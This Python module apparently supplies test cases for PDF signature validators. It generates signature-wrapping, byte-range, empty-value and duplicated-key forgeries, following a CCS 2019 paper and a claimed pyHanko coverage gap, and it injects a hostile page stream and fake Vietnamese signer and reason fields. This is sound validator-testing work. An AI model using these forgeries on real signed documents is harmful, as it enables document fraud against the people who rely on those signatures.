"""Attacks on what the signature covers: wrapping, gaps, byte ranges, duplicated keys.

SWA and USF after Mladenov et al., CCS 2019; the measured file after reading pyHanko's coverage check,
which compares lengths; the rest after EU DSS's and pyHanko's test files.
"""

from __future__ import annotations

import re

from asn1crypto import parser

from support.attacks_family import Family, Forge
from support.attacks_raw import (
    EVIL,
    Place,
    Shape,
    appended,
    black_page,
    content_number,
    literal,
    place,
    size,
    stream,
    update,
)

SWA = Family("Signature wrapping", "CCS 2019")
GAP = Family("Coverage by length", "own finding, pyHanko 0.38")
USF = Family("Universal forgery", "CCS 2019")


def signature(at: Place, contents: bytes, byte_range: bytes | None = None, more: bytes = b"") -> bytes:
    """A signature dictionary of the attacker's around the genuine value."""
    numbers = byte_range or b"/ByteRange [0 %d %d %d]" % (at.before, at.after, at.rest)
    return b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached %s %s /Contents %s >>" % (
        numbers,
        more,
        contents,
    )


def _value(at: Place) -> bytes:
    return at.contents[: parser.peek(at.contents)]


def _wrapped(padding: int, *, inside: bool) -> Forge:
    """Move the second half of what is signed, and put objects and a second byte range between."""

    def forge(data: bytes) -> bytes:
        at = place(data)
        number = content_number(data)
        evil = b"\n%d 0 obj\n%s\nendobj\n" % (number, stream(EVIL))
        value = data[at.before : at.after]
        for _ in range(3):
            moved = at.after + padding + len(evil)
            text = b" /ByteRange [0 %d %d %d] " % (at.before, moved, at.rest)
            evil = (
                b"%s>> endobj\n%d 0 obj\n%s\nendobj\n" % (text, number, stream(EVIL))
                if inside
                else text + b" " * (len(evil) - len(text) if len(evil) > len(text) else 0)
            )
        return data[: at.before] + value + b" " * padding + evil + data[at.after :]

    return forge


for _padding in (0, 1, 2048):
    SWA.add(f"moved second half, {_padding} blanks", _wrapped(_padding, inside=False))
    SWA.add(f"objects between the halves, {_padding} blanks", _wrapped(_padding, inside=True))


@SWA
def second_half_moved_and_a_table_where_it_was(data: bytes) -> bytes:
    """Siwa: the unmoved startxref finds a table of the attacker's where the old one stood."""
    at = place(data)
    old = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    number = content_number(data)
    evil = b" /ByteRange [0 %d %%010d %d] >> endobj\n" % (at.before, at.rest)
    evil %= at.after + 4000
    evil += b"%d 0 obj\n%s\nendobj\n" % (number, stream(EVIL))
    offset = at.after + evil.index(b"%d 0 obj" % number)
    evil = evil.ljust(old - at.after)
    evil += b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 2 0 R /Prev 39827 >>\n" % (
        number,
        offset,
        size(data),
    )
    return data[: at.after] + evil.ljust(4000) + data[at.after :]


@SWA
def a_note_behind_the_value(data: bytes) -> bytes:
    """Free text between the value and the rest of the signature dictionary, which moves along."""
    at = place(data)
    return data[: at.after] + b" /Reason (Ho so da huy) " + data[at.after :]


@GAP
def a_file_as_long_as_its_value_says(data: bytes) -> bytes:
    """An update with a longer value: signed bytes and value add up to the length of the file."""
    return measured(data, black_page(data))


def measured(data: bytes, objects: dict[int, bytes]) -> bytes:
    """A file whose length is that of what is signed plus twice that of its value."""
    at = place(data)
    value = _value(at)
    count = at.after - at.before + 4000
    while True:
        evil = {**objects, at.number: signature(at, literal(value.ljust(count, b"\0")))}
        missing = at.before + at.rest + 2 * count + 2 - len(data) - len(update(data, evil))
        if missing > 0:
            return data + b"%".ljust(missing) + update(data, evil, Shape(shift=missing))
        count += 1 - missing


@GAP
def nothing_but_a_longer_value(data: bytes) -> bytes:
    """The same without any other change: the later update is hidden all the same."""
    return measured(data, {})


@GAP
def a_value_in_round_brackets_with_objects_behind_it(data: bytes) -> bytes:
    """The value takes half of its room as a literal string; the certification falls into what is left."""
    return _dropped_reference(data, b"")


@GAP
def a_value_in_round_brackets_and_another_name(data: bytes) -> bytes:
    """The same, and the attacker names the signer."""
    return _dropped_reference(data, b"/Name (Chu tich UBND) /Reason (Huy)")


def _dropped_reference(data: bytes, more: bytes) -> bytes:
    at = place(data)
    room = at.after - at.before
    numbers = b"/ByteRange [0 %d %d %d]" % (at.before, at.after, at.rest)
    head = literal(at.contents) + b" %s /Type /Sig /Filter /Adobe.PPKLite /SubFilter %s %s>>\nendobj\n" % (
        numbers,
        b"/ETSI.CAdES.detached",
        more,
    )
    number = content_number(data)
    evil = b"%d 0 obj\n%s\nendobj\n999 0 obj\n<< " % (number, stream(EVIL))
    return data[: at.before] + (head + evil.rjust(room - len(head)))[:room] + data[at.after :]


@GAP
def blanks_in_the_value(data: bytes) -> bytes:
    """Blanks between the digits: a value that says the same, in more or less room."""
    at = place(data)
    inside = data[at.before + 1 : at.after - 1]
    return data[: at.before + 1] + inside[:-100] + b" " * 100 + b">" + data[at.after :]


@GAP
def a_note_in_the_room_of_the_value(data: bytes) -> bytes:
    """Something else behind the value, where zeros should be."""
    at = place(data)
    note = b"5468616E682074C3AC6E68".ljust(100, b"0")
    return data[: at.after - 101] + note + data[at.after - 1 :]


def _emptied(contents: bytes, *, keep: bool = True) -> Forge:
    def forge(data: bytes) -> bytes:
        at = place(data)
        filled = contents.ljust(at.after - at.before) if keep else contents
        return data[: at.before] + filled + data[at.after :]

    return forge


for _contents in (
    b"null",
    b"<>",
    b"<00>",
    b"<3000>",
    b"(x)",
    b"42",
    b"true",
    b"[]",
    b"<< >>",
    b"/Name",
    b"3 0 R",
):
    USF.add(f"value {_contents.decode()}", _emptied(_contents))
    USF.add(f"value {_contents.decode()}, shorter", _emptied(_contents, keep=False))


@USF
def no_value_at_all(data: bytes) -> bytes:
    """The key is gone."""
    at = place(data)
    return data[: at.before - 10] + b" " * (at.after - at.before + 10) + data[at.after :]


def _ranged(text: str, *, redefined: bool) -> Forge:
    """Put another byte range in place of the signed one, or into an update beside a hostile page."""

    def forge(data: bytes) -> bytes:
        at = place(data)
        numbers = {"a": at.before, "b": at.after, "c": at.rest, "n": len(data), "s": size(data)}
        filled = re.sub(r"\{(\w)\}", lambda found: str(numbers[found[1]]), text).encode()
        if redefined:
            value = b"<%s>" % at.contents.hex().encode()
            return appended(data, {**black_page(data), at.number: signature(at, value, filled)})
        found = list(re.finditer(rb"/ByteRange ?\[[\d ]+\] *", data))[-1]
        return data[: found.start()] + filled.ljust(len(found[0])) + data[found.end() :]

    return forge


RANGES = (
    "/ByteRange [0 {a} {b} -{c}]",
    "/ByteRange [0 -{a} {b} {c}]",
    "/ByteRange [-1 {a} {b} {c}]",
    "/ByteRange [0 {a} {b} 99999999999999999999]",
    "/ByteRange null",
    "/ByteRange []",
    "/ByteRange [0]",
    "/ByteRange [0 {a}]",
    "/ByteRange [0 {a} {b}]",
    "/ByteRange [0 {a} {b} {c} 0 0]",
    "/ByteRange [0 {a} {b} {c} {b} 1]",
    "/ByteRange [0 0 0 0]",
    "/ByteRange [0 {a} {a} {c}]",
    "/ByteRange [0 {n} 0 {n}]",
    "/ByteRange [{b} {c} 0 {a}]",
    "/ByteRange [0 {a}.0 {b} {c}]",
    "/ByteRange [(0) ({a}) ({b}) ({c})]",
    "/ByteRange [null {a} {b} {c}]",
    "/ByteRange [[0 {a}] [{b} {c}]]",
    "/ByteRange << /A 0 >>",
    "/ByteRange {s} 0 R",
    "/ByteRange (0 {a} {b} {c})",
    "/ByteRenge [0 {a} {b} {c}]",
    "/ByteRange [0 {a} {b} {c}] /ByteRange [0 1 2 3]",
    "/ByteRange [0 1 2 3] /ByteRange [0 {a} {b} {c}]",
)
for _range in RANGES:
    USF.add(_range.removeprefix("/ByteRange "), _ranged(_range, redefined=False))
    USF.add(f"{_range.removeprefix('/ByteRange ')} in an update", _ranged(_range, redefined=True))


@USF
def byte_range_and_value_by_reference(data: bytes) -> bytes:
    """Both stand in objects of their own."""
    at, new = place(data), size(data) + 1
    return appended(
        data,
        {
            **black_page(data),
            new: b"[0 %d %d %d]" % (at.before, at.after, at.rest),
            new + 1: b"<%s>" % at.contents.hex().encode(),
            at.number: signature(at, b"%d 0 R" % (new + 1), b"/ByteRange %d 0 R" % new),
        },
    )


def _keyed(key: bytes, value: bytes) -> Forge:
    """Put a key into the signature dictionary a second time, at the cost of blanks that are signed."""

    def forge(data: bytes) -> bytes:
        found = list(re.finditer(rb"/ByteRange ?\[[\d ]+\]( *)", data))[-1]
        text = b" %s %s" % (key, value)
        return data[: found.start(1)] + text.ljust(len(found[1])) + data[found.end(1) :]

    return forge


for _key, _text in (
    (b"/M", b"(D:19990101)"),
    (b"/Reason", b"(Huy)"),
    (b"/Name", b"(Khac)"),
    (b"/Contents", b"<00>"),
):
    USF.add(f"{_key.decode()} added to the signature", _keyed(_key, _text))
